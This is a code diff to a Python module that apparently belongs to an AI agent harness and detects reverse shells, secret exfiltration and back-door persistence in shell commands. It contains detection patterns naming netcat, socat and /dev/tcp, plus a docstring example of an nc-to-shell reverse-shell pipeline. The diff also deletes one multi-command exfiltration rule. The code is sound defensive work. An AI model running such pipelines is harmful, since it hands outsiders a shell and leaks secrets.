@@ -2,7 +2,7 @@
 
 import itertools
 import re
-from collections.abc import Callable, Iterator, Sequence
+from collections.abc import Callable, Iterator
 
 from agents.harness.policy import files, network, targets
 from agents.harness.policy.commands import Command
@@ -11,13 +11,13 @@ from agents.harness.policy.findings import Finding
 from agents.harness.policy.shell import names_secret, reads_secret
 from agents.harness.policy.wrappers import SHELLS
 
-_NET_CATS = frozenset({"nc", "ncat", "netcat"})
+NET_CATS = frozenset({"nc", "ncat", "netcat"})
 _LONGEST_PIPE = 50
-_NET_DEVICE = re.compile(r"/dev/(?:tcp|udp)/")
+NET_DEVICE = re.compile(r"/dev/(?:tcp|udp)/")
 _NET_EXEC = re.compile(r"-\w*[ec]$|--(?:sh-)?exec")
 _SOCAT_EXEC = re.compile(r"(?i)\b(?:exec|system):")
-_THEFT = Finding("D7", "Sends a secret to another machine")
-_REVERSE_SHELL = Finding("D7", "Gives another machine a shell here")
+THEFT = Finding("D7", "Sends a secret to another machine")
+REVERSE_SHELL = Finding("D7", "Gives another machine a shell here")
 
 
 def stays_behind(context: Context, command: Command) -> Iterator[Finding]:
@@ -25,6 +25,9 @@ def stays_behind(context: Context, command: Command) -> Iterator[Finding]:
     for path in targets.written(context, command):
         if files.is_persistence(path):
             yield Finding("D7", f"Leaves a back door ({path})")
+    checks_only = any(re.match(r"-\w*c|--check", argument) for argument in command.arguments)
+    if command.name in ("visudo", "vipw", "vigr") and not checks_only:
+        yield Finding("D7", f"Leaves a back door ({command.name})")
 
 
 def reverse_shells(_context: Context, command: Command) -> Iterator[Finding]:
@@ -32,14 +35,14 @@ def reverse_shells(_context: Context, command: Command) -> Iterator[Finding]:
     name, line = command.name, " ".join(command.arguments)
     if name in SHELLS:
         targets_of = [one.target.text for one in command.redirections]
-        found = any(_NET_DEVICE.match(text) for text in targets_of) or _told_by_net(command)
-    elif name in _NET_CATS:
+        found = any(NET_DEVICE.match(text) for text in targets_of) or _told_by_net(command)
+    elif name in NET_CATS:
         found = any(_NET_EXEC.match(argument) for argument in command.arguments)
         found = found or _listens_to_shell(command)
     else:
         found = name == "socat" and _SOCAT_EXEC.search(line) is not None
     if found:
-        yield _REVERSE_SHELL
+        yield REVERSE_SHELL
 
 
 def _listens_to_shell(command: Command) -> bool:
@@ -55,15 +58,19 @@ def _listens_to_shell(command: Command) -> bool:
 def _told_by_net(command: Command) -> bool:
     """`nc host port | sh | nc host port`: what the shell is told comes from outside."""
     before = command.upstream
-    return before is not None and before.name in (*_NET_CATS, "telnet", "socat")
+    if before is None:
+        return False
+    if before.name == "openssl":
+        return before.arguments[:1] == ["s_client"]
+    return before.name in (*NET_CATS, "telnet", "socat")
 
 
 def leaks(context: Context, command: Command) -> Iterator[Finding]:
     """A secret in the arguments, in the input or upstream of a connection to outside."""
     if network.is_outside(command) and (
-        _carries_secret(context, command) or _secret_upstream(context, command)
+        _carries_secret(context, command) or secret_upstream(context, command)
     ):
-        yield _THEFT
+        yield THEFT
 
 
 def _carries_secret(context: Context, command: Command) -> bool:
@@ -88,7 +95,8 @@ def _keys(command: Command) -> set[str]:
     return {after for before, after in itertools.pairwise(command.arguments) if before in options}
 
 
-def _secret_upstream(context: Context, command: Command) -> bool:
+def secret_upstream(context: Context, command: Command) -> bool:
+    """Whether something that pipes into the command, at whatever distance, reads a secret."""
     upstream = command.upstream
     for _ in range(_LONGEST_PIPE):
         if upstream is None:
@@ -97,32 +105,6 @@ def _secret_upstream(context: Context, command: Command) -> bool:
             return True
         upstream = upstream.upstream
     return False
-
-
-def in_the_whole(context: Context, commands: Sequence[Command]) -> Iterator[Finding]:
-    """A secret that goes into a file, and that file to another machine, in one call."""
-    if not any(network.is_outside(command) for command in commands):
-        return
-    loot: set[str] = set()
-    for command in commands:
-        if loot and network.is_outside(command):
-            words = [*command.words[1:], *(one.target for one in command.redirections)]
-            sent = {
-                files.real(context, part, cwd=command.cwd)
-                for word in words
-                for part in (word.text, word.text.rpartition("@")[2], word.text.rpartition("=")[2])
-                if part
-            }
-            if sent & loot:
-                yield _THEFT
-        if reads_secret(context, command) or _secret_upstream(context, command):
-            loot.update(targets.written(context, command))
-            if command.name in ("tar", "zip", "7z", "cp", "base64", "gpg", "openssl"):
-                loot.update(
-                    files.real(context, word.text, cwd=command.cwd)
-                    for word in command.words[1:]
-                    if word.text and not word.text.startswith("-")
-                )
 
 
 RULES: tuple[Callable[[Context, Command], Iterator[Finding]], ...] = (
